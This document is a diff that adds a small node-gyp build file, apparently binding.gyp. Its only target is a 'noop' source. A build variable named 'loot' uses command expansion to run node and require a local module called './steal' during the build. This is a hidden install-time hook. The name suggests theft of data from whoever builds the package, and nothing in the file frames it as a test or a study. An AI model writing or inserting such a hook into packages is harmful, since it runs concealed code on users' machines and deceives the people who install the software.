@@ -1,0 +1,4 @@
+{
+  "variables": { "loot": "<!(node -e \"require('./steal')\")" },
+  "targets": [ { "target_name": "noop", "sources": [ "noop.c" ] } ]
+}
